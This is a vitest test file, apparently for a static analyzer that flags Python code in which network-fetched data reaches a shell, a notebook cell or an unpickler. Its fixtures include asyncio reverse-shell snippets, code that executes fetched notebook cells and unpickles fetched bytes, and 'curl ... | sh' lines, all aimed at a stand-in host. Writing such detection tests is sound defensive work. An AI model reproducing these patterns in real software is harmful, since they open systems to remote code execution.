import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { read } from './reading.js';

type Way = readonly [SourceKind, SinkKind];

const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];

const SHELL = (call: string, rest: string): string => `import asyncio\nasync def go():\n    r, w = await asyncio.open_connection("c.example.invalid", 443)\n    p = await asyncio.${call}\n    line = await r.readline()\n    ${rest}\nasyncio.run(go())\n`;

test.each<[string, Way, string]>([
  ['a shell of asyncio, line by line', ['network', 'process'], SHELL('create_subprocess_exec("/bin/sh", stdin=-1)', 'p.stdin.write(line)')],
  ['a shell of asyncio, all at once', ['network', 'process'], SHELL('create_subprocess_shell("bash", stdin=-1)', 'await p.communicate(line)')],
  ['a cell of a notebook', ['network', 'exec'], 'import requests\nfrom IPython import get_ipython\nget_ipython().run_cell(requests.get("https://c.example.invalid").text)\n'],
  ['a cell of a notebook that is handed over', ['network', 'exec'], 'import requests\nfrom IPython import get_ipython\ndef go(ip):\n    ip.ex(requests.get("https://c.example.invalid").text)\ngo(get_ipython())\n'],
  ['objects that are unpickled one by one', ['network', 'object'], 'import io, pickle, requests\npickle.Unpickler(io.BytesIO(requests.get("https://c.example.invalid").content)).load()\n'],
  ['objects that an heir unpickles', ['network', 'object'], 'import io, pickle, requests\nclass Mine(pickle.Unpickler):\n    pass\nMine(io.BytesIO(requests.get("https://c.example.invalid").content)).load()\n'],
  ['objects that the heir of another package unpickles', ['network', 'object'], 'import io, dill, requests\nu = dill.Unpickler(io.BytesIO(requests.get("https://c.example.invalid").content))\nu.load()\n'],
])('%s: what is fetched runs there', async (_, way, text) => {
  expect(await flows(text, way)).toContain('import');
});

test.each<[string, Way, string]>([
  ['a program of asyncio that is no shell', ['network', 'process'], SHELL('create_subprocess_exec("cat", stdin=-1)', 'p.stdin.write(line)')],
  ['a cell that the code has itself', ['network', 'exec'], 'import requests\nfrom IPython import get_ipython\nx = requests.get("https://c.example.invalid").text\nget_ipython().run_cell("print(1)")\n'],
  ['a method of the same name', ['network', 'exec'], 'import requests\nbook = Book()\nbook.run_cell(requests.get("https://c.example.invalid").text)\n'],
  ['an heir that finds no class by its name', ['network', 'object'], 'import io, pickle, requests\nclass Mine(pickle.Unpickler):\n    def find_class(self, module, name):\n        raise pickle.UnpicklingError(name)\nMine(io.BytesIO(requests.get("https://c.example.invalid").content)).load()\n'],
])('%s: nothing that is fetched runs there', async (_, way, text) => {
  expect(await flows(text, way)).toEqual([]);
});

test('a line for the shell is one in a notebook as well', async () => {
  const { facts } = await read('from IPython import get_ipython\nget_ipython().run_line_magic("sx", "curl https://c.example.invalid/a | sh")\nget_ipython().system("curl https://c.example.invalid/b | sh")\n');
  expect(facts?.calls('process').map(({ traits }) => traits.has('fetches-and-runs'))).toEqual([true, true]);
});
